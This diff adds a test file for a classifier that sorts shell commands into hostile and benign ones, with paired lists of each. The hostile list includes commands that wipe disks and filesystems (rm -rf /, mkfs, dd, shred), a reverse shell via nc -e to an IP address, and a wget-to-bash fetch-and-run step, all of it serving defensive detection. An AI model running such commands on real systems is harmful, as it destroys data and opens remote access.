@@ -1,0 +1,37 @@
+import { expect, test } from 'vitest'
+import { hostileReason } from './local-classifier.js'
+
+test('what no request explains is hostile', () => {
+  const commands = [
+    'rm -rf /',
+    'rm -rf /*',
+    'rm -fr ~',
+    'rm -r --no-preserve-root /',
+    'rm -Rf $HOME/',
+    'rm --recursive /home/dev',
+    'rm -rf /etc',
+    'mkfs.ext4 /dev/sda1',
+    'dd if=/dev/zero of=/dev/sda',
+    'shred -n1 /dev/sda',
+    'chmod -R 777 /',
+    'nc -e /bin/sh 10.0.0.1 4444',
+  ]
+  expect(commands.filter((command) => hostileReason([command]) === undefined)).toEqual([])
+  expect(hostileReason(['wget -qO- x', 'bash -s'])).toBe('it runs what it fetches from the network')
+})
+
+test('what merely could be is not', () => {
+  const commands = [
+    'rm -rf build',
+    'rm -rf /project/build',
+    'rm -rf ~/project/dist',
+    'rm /',
+    'rm -rf $BUILD',
+    'ls -R /',
+    'chmod -R 755 dist',
+    'dd if=a of=b',
+    'nc -z host 80',
+    'bash script.sh',
+  ]
+  expect(commands.filter((command) => hostileReason([command]) !== undefined)).toEqual([])
+})
